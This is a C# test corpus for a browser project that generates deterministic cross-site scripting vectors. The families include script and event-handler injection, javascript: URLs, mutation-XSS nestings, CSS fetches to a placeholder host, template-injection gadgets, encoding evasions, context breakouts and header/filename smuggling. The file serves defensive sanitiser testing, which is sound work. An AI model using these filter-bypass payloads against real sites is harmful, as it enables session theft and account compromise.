using System.Globalization;
using System.Text;

namespace Heed.Browser.Tests.Hostile;

/// <summary>
/// Hostile markup and words, put together from parts: each calls <c>__xss(n)</c> when it is run, or fetches from a host that is nobody's. No random: the
/// same number is the same vector in every run.
/// </summary>
internal static class Corpus
{
    /// <summary>Host that nothing may ever call.</summary>
    public const string Beacon = "beacon.invalid";

    private static readonly Lazy<IReadOnlyList<Vector>> Made = new(() => [.. Make().Distinct().Select((v, i) => new Vector(i, v.Family, v.Markup.Replace(N, i.ToString(CultureInfo.InvariantCulture), StringComparison.Ordinal)))]);

    private const string N = "\uE000";
    private const string Run = "__xss(" + N + ")";
    private const string Call = "//" + Beacon + "/" + N;

    public static IReadOnlyList<Vector> All => Made.Value;

    /// <summary>Vectors joined up to a length, for places that take long texts; none is cut.</summary>
    public static IEnumerable<string> Packs(int length)
    {
        var pack = new StringBuilder();
        foreach (var vector in All.Where(v => v.Markup.Length <= length))
        {
            if (pack.Length > 0 && pack.Length + vector.Markup.Length + 1 > length)
            {
                yield return pack.ToString();
                pack.Clear();
            }

            if (pack.Length > 0) pack.Append('\n');
            pack.Append(vector.Markup);
        }

        yield return pack.ToString();
    }

    /// <summary>Vectors of one line that fit into a short field, evenly from all families.</summary>
    public static IReadOnlyList<string> Short(int length, int count)
    {
        string[] fit = [.. All.Where(v => v.Markup.Length <= length && !v.Markup.Any(char.IsControl)).Select(v => v.Markup)];
        return [.. Enumerable.Range(0, count).Select(i => fit[(int)((long)i * fit.Length / count)])];
    }

    private static IEnumerable<(string Family, string Markup)> Make() =>
        [.. Scripts(), .. Handlers(), .. Spellings(), .. Addresses(), .. Nestings(), .. Styles(), .. Fetches(), .. Templates(), .. Marks(), .. Letters(), .. Breakouts()];

    private static IEnumerable<(string, string)> Scripts()
    {
        string[] opens = ["<script>", "<SCRIPT>", "<ScRiPt >", "<script\t>", "<script\n>", "<script/x>", "<script type=module>", "<script async defer>", "<<script>", "<script\f>", "<script x='>'>"];
        string[] closes = ["</script>", "</SCRIPT >", "</script/x>", "", "</script\n>"];
        string[] within = [Run, $"top.{Run}", $"/*<!--*/{Run}//-->", $"setTimeout('{Run}')", $"import('data:text/javascript,{Run}')"];
        foreach (var open in opens) foreach (var close in closes) yield return ("script", open + within[(open.Length + close.Length) % within.Length] + close);
        foreach (var source in (string[])[$"{Call}", $"data:text/javascript,{Run}", $"https:{Call}", $"\\\\{Beacon}\\{N}"])
        {
            yield return ("script", $"<script src={source}></script>");
            yield return ("script", $"<svg><script href={source} /></svg>");
            yield return ("script", $"<svg><script xlink:href='{source}'></script>");
        }
    }

    private static IEnumerable<(string, string)> Handlers()
    {
        string[] elements =
        [
            "img src=x", "svg", "body", "input autofocus", "details open", "video src=x", "audio src=x", "iframe", "object data=x", "select autofocus", "textarea autofocus", "marquee", "style", "math", "table",
            "div style=animation-name:x", "a href=#", "button autofocus", "form", "x tabindex=0 autofocus", "p contenteditable autofocus", "embed src=x", "link rel=stylesheet href=x", "track src=x", "image src=x",
        ];
        string[] events =
        [
            "onerror", "onload", "ontoggle", "onfocus", "onanimationstart", "onstart", "onloadstart", "onpageshow", "onmouseover", "onpointerenter", "onclick", "onfocusin", "onbeforetoggle", "onscrollend", "oncontentvisibilityautostatechange",
        ];
        foreach (var element in elements) foreach (var name in events) yield return ("handler", $"<{element} {name}={Run}>");
    }

    private static IEnumerable<(string, string)> Spellings()
    {
        string[] carriers = ["img src=x|onerror", "svg|onload", "details open|ontoggle", "input autofocus|onfocus", "video><source|onerror", "body|onload", "iframe|onload", "marquee|onstart", "style|onload", "audio src|onerror"];
        Func<string, string, string>[] spellings =
        [
            (e, n) => $"<{e} {n}=\"{Run}\">", (e, n) => $"<{e} {n}='{Run}'>", (e, n) => $"<{e} {n}=`{Run}`>", (e, n) => $"<{e}/{n}={Run}>", (e, n) => $"<{e}\t{n}\n=\r{Run} >",
            (e, n) => $"<{e} {n.ToUpperInvariant()}={Run}>", (e, n) => $"<{e} {n}=&#95;&#95;xss&#40;{N}&#41;>", (e, n) => $"<{e} {n}=&#x5f;&#x5F;xss&lpar;{N}&rpar;>", (e, n) => $"<{e} {n}=\"\u0000{Run}\">",
            (e, n) => $"<{e} {n}=\"{Run}\" <", (e, n) => $"<{e} x=\"\"{n}={Run}>", (e, n) => $"<{e} {n}={Run}//", (e, n) => $"<{e} \u0000{n}={Run}>", (e, n) => $"<{e} x='><' {n}={Run}>", (e, n) => $"<\u0000{e} {n}={Run}>",
        ];
        foreach (var carrier in carriers) foreach (var spell in spellings) yield return ("spelling", spell(carrier.Split('|')[0], carrier.Split('|')[1]));
    }

    private static readonly string[] Schemes =
    [
        $"javascript:{Run}", $"JaVaScRiPt:{Run}", $"java\tscript:{Run}", $"java&#10;script:{Run}", $"&#106;avascript:{Run}", $"javascript&colon;{Run}", $"\u0001javascript:{Run}", $" &#14; javascript:{Run}", $"vbscript:{Run}",
        $"data:text/html,<script>parent.{Run}</script>", $"data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==", $"java\0script:{Run}", $"javascript://%0a{Run}", $"feed:javascript:{Run}", $"javascript:/*--></title>*/{Run}",
        $"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{Run}'/>", $"blob:{Run}", $"javascript\u00A0:{Run}",
    ];

    private static IEnumerable<(string, string)> Addresses()
    {
        string[] holders =
        [
            "<a href=\"{0}\">x</a>", "<iframe src=\"{0}\"></iframe>", "<form action=\"{0}\"><button>x</button></form>", "<form><button formaction=\"{0}\">x</button></form>", "<object data=\"{0}\"></object>", "<embed src=\"{0}\">",
            "<map><area href=\"{0}\"></map>", "<base href=\"{0}\">", "<link rel=stylesheet href=\"{0}\">", "<meta http-equiv=refresh content=\"0;url={0}\">", "<math href=\"{0}\">x</math>",
            "<svg><a xlink:href=\"{0}\"><text y=9>x</text></a></svg>", "<svg><use href=\"{0}#x\"/></svg>", "<svg><a><animate attributeName=href values=\"{0}\"/><text y=9>x</text></a></svg>", "<img src=\"{0}\">", "<table background=\"{0}\"><td>x</table>",
            "<input type=image src=\"{0}\">", "<video poster=\"{0}\"></video>", "<blockquote cite=\"{0}\">x</blockquote>",
        ];
        foreach (var holder in holders) foreach (var scheme in Schemes) yield return ("address", string.Format(CultureInfo.InvariantCulture, holder, scheme));
    }

    private static IEnumerable<(string, string)> Nestings()
    {
        string[] outer =
        [
            "svg", "math", "svg><desc", "svg><title", "svg><foreignObject", "math><mtext", "math><mi", "math><annotation-xml encoding=text/html", "table", "table><tr><td", "select", "select><option", "template", "noscript",
            "noframes", "noembed", "iframe", "xmp", "style", "title", "textarea", "form><form", "form><math><mtext></form><form><mglyph", "p", "a", "button", "dl><dt", "ruby><rt", "object", "details><summary", "video", "canvas", "caption", "b><i><p",
        ];
        string[] inner =
        [
            $"<style><img src=x onerror={Run}>", $"<style><!--</style><img src=x onerror={Run}>-->", $"<mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror={Run}&gt;\">", $"<img title=\"</@><img src=x onerror={Run}>\">",
            $"<p id=\"</@><img src=x onerror={Run}>\"></p>", $"<!--><img src=x onerror={Run}>-->", $"<![CDATA[><img src=x onerror={Run}>]]>", $"<noscript><p title=\"</noscript><img src=x onerror={Run}>\">", $"</@><img src=x onerror={Run}>",
            $"<!--<@ a=\"--><img src=x onerror={Run}>\">",
        ];
        foreach (var one in outer) foreach (var two in inner) yield return ("nesting", $"<{one}>" + two.Replace("@", one.Split('>')[0], StringComparison.Ordinal));
        for (var depth = 8; depth <= 512; depth *= 4) yield return ("nesting", string.Concat(Enumerable.Repeat("<div><svg>", depth)) + $"<style><a title=\"</style><img src onerror={Run}>\">");
    }

    private static IEnumerable<(string, string)> Styles()
    {
        string[] rules =
        [
            $"background:url({Call})", $"background-image:url('https:{Call}')", $"list-style:url({Call})", $"cursor:url({Call}),auto", $"content:url({Call})", $"border-image:url({Call})", $"mask:url({Call})", $"filter:url({Call}#x)",
            $"background:image-set('{Call}' 1x)", $"background:\\75\\72\\6c({Call})", $"background:u/**/rl({Call})", $"--x:url({Call});background:var(--x)", $"width:expression({Run})", $"-moz-binding:url({Call})", $"behavior:url({Call})",
            $"background:url(javascript:{Run})", $"shape-outside:url({Call})", $"x:'\\\n';background:url({Call})", $"}}*{{background:url({Call})", $"background:URL( \"{Call}\" )", $"background:-webkit-image-set(url({Call}) 1x)", $"background:cross-fade(url({Call}),url({Call}))",
        ];
        string[] holders = ["<div style=\"{0}\">x</div>", "<td style=\"{0}\">x", "<font style='{0}'>x</font>", "<style>*{{{0}}}</style>", "<svg><style>*{{{0}}}</style></svg>", "<p style=\"color:red;{0}\" class=x>x</p>"];
        foreach (var rule in rules) foreach (var holder in holders) yield return ("style", string.Format(CultureInfo.InvariantCulture, holder, rule));
        foreach (var sheet in (string[])[$"@import '{Call}';", $"@import url({Call});", $"@font-face{{font-family:x;src:url({Call})}}*{{font-family:x}}", $"@namespace '{Call}';"]) yield return ("style", $"<style>{sheet}</style><p>x</p>");
    }

    private static IEnumerable<(string, string)> Fetches()
    {
        string[] holders =
        [
            "<img src=\"{0}\">", "<img srcset=\"{0} 1x\">", "<picture><source srcset=\"{0}\"><img></picture>", "<video src=\"{0}\" autoplay></video>", "<video poster=\"{0}\"></video>", "<audio src=\"{0}\" autoplay></audio>", "<video><track default src=\"{0}\"></video>",
            "<input type=image src=\"{0}\">", "<link rel=prefetch href=\"{0}\">", "<link rel=preconnect href=\"{0}\">", "<link rel=dns-prefetch href=\"{0}\">", "<link rel=icon href=\"{0}\">", "<link rel=stylesheet href=\"{0}\">", "<link rel=modulepreload href=\"{0}\">",
            "<meta http-equiv=refresh content=\"0;{0}\">", "<object data=\"{0}\"></object>", "<embed src=\"{0}\">", "<iframe src=\"{0}\"></iframe>", "<iframe srcdoc=\"<img src='{0}'>\"></iframe>", "<frameset><frame src=\"{0}\"></frameset>", "<body background=\"{0}\">",
            "<table background=\"{0}\"><td background=\"{0}\">x</table>", "<svg><image href=\"{0}\"/></svg>", "<svg><use href=\"{0}#a\"/></svg>", "<svg><filter id=f><feImage href=\"{0}\"/></filter></svg>", "<bgsound src=\"{0}\">", "<img lowsrc=\"{0}\" dynsrc=\"{0}\">",
            "<form action=\"{0}\"><input autofocus></form>", "<base href=\"{0}\"><img src=a>", "<a href=/ ping=\"{0}\">x</a>", "<html manifest=\"{0}\">", "<script src=\"{0}\"></script>",
        ];
        string[] addresses = [Call, "https:" + Call, "http:" + Call, $"\\\\{Beacon}/{N}", $"/\\{Beacon}/{N}", $"https:/{Beacon}/{N}", $"ht\ntps:{Call}"];
        foreach (var holder in holders) foreach (var address in addresses) yield return ("fetch", string.Format(CultureInfo.InvariantCulture, holder, address));
    }

    private static IEnumerable<(string, string)> Templates()
    {
        string[] within = [Run, $"constructor.constructor('{Run}')()", $"_c.constructor('{Run}')()", $"$emit.constructor`{Run}`()", $"this.constructor.constructor('{Run}')()", $"''.sub.constructor('{Run}')()"];
        (string, string)[] marks = [("{{", "}}"), ("${", "}"), ("#{", "}"), ("<%=", "%>"), ("[[", "]]"), ("{%", "%}"), ("{{{", "}}}"), ("@(", ")"), ("{!", "!}")];
        foreach (var (open, close) in marks) foreach (var one in within) yield return ("template", open + one + close);
        foreach (var name in (string[])["v-html", "v-on:click", "@load", ":innerHTML", "v-bind:onerror", "x-init", "x-html", "ng-init", "ng-app ng-csp data-ng-init", "hx-on:load", "data-bind"]) yield return ("template", $"<div {name}=\"{Run}\">x</div>");
    }

    private static IEnumerable<(string, string)> Marks()
    {
        foreach (var scheme in Schemes)
        {
            yield return ("markdown", $"[x]({scheme})");
            yield return ("markdown", $"<{scheme}>");
            yield return ("markdown", $"[x][1]\n\n[1]: {scheme}");
        }

        foreach (var one in (string[])[$"![x](https:{Call} \"a\\\" onerror={Run} \")", $"![\"onerror=\"{Run}](x)", $"https://x.example/\"onmouseover=\"{Run}", $"https://x.example/'><img/src/onerror={Run}>", $"[a](https://x.example/\"onclick={Run}\")", $"`<img src=x onerror={Run}>`", $"@<img src=x onerror={Run}>", $"#<svg/onload={Run}>"]) yield return ("markdown", one);
    }

    private static IEnumerable<(string, string)> Letters()
    {
        string[] plain = [$"<script>{Run}</script>", $"<img src=x onerror={Run}>", $"<svg onload={Run}>"];
        Func<string, string>[] change =
        [
            s => s.Replace('<', '＜').Replace('>', '＞'), Uri.EscapeDataString, s => Uri.EscapeDataString(Uri.EscapeDataString(s)), s => s.Replace("<", "\\u003c", StringComparison.Ordinal), s => s.Replace("<", "\\x3c", StringComparison.Ordinal),
            s => s.Replace("<", "&lt;", StringComparison.Ordinal).Replace(">", "&gt;", StringComparison.Ordinal), s => s.Replace("<", "&amp;lt;", StringComparison.Ordinal), s => s.Replace("<", "&#60", StringComparison.Ordinal), s => s.Replace("<", "&#x3c;", StringComparison.Ordinal),
            s => s.Replace("<", "+ADw-", StringComparison.Ordinal).Replace(">", "+AD4-", StringComparison.Ordinal), s => s.Replace('s', 'ſ'), s => s.Replace('i', 'ı'), s => "\uFEFF" + s, s => "\u202E" + s + "\u202C", s => s.Insert(2, "\u0000"), s => s.Insert(2, "\u200B"), s => s.Replace(" ", "\u00A0", StringComparison.Ordinal),
            s => s.Replace(" ", "\u2028", StringComparison.Ordinal), s => s.Replace('<', '\u2039'), s => s.Replace('<', '\u3008'), s => string.Concat(s.Select(c => $"&#{(int)c};")), s => s.Replace("<", "\uD800<", StringComparison.Ordinal).Replace("\uD800", "\uFFFD", StringComparison.Ordinal),
        ];
        foreach (var one in plain) foreach (var make in change) yield return ("letters", make(one));
    }

    private static IEnumerable<(string, string)> Breakouts()
    {
        string[] ends = ["\">", "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>", "*/", "\" ", "' ", "</p></div>", "\\\">", "%22%3E", "\"}]}"];
        string[] then = [$"<img src=x onerror={Run}>", $"<svg/onload={Run}>", $"<script>{Run}</script>", $"autofocus onfocus={Run} x=", $"onmouseover={Run} "];
        foreach (var end in ends) foreach (var one in then) yield return ("breakout", end + one);
        foreach (var one in (string[])["\");{0};//", "';{0};//", "`;{0};//", "\\';{0};//", "</script><script>{0}", "'+{0}+'", "\"-{0}-\"", "${{{0}}}", "\u2028{0}//"]) yield return ("breakout", string.Format(CultureInfo.InvariantCulture, one, Run));
        foreach (var one in (string[])["a\r\nContent-Type: text/html\r\n\r\n<script>{0}</script>", "\"; filename=\"x.html\"; x=\"<script>{0}</script>", "=?utf-8?Q?=3Cscript=3E{0}=3C/script=3E?=", "\"><img src=x onerror={0}>.png", "..%2f<svg onload={0}>.svg", "x.svg;<img src onerror={0}>.png"])
        {
            yield return ("header", string.Format(CultureInfo.InvariantCulture, one, Run));
        }
    }
}
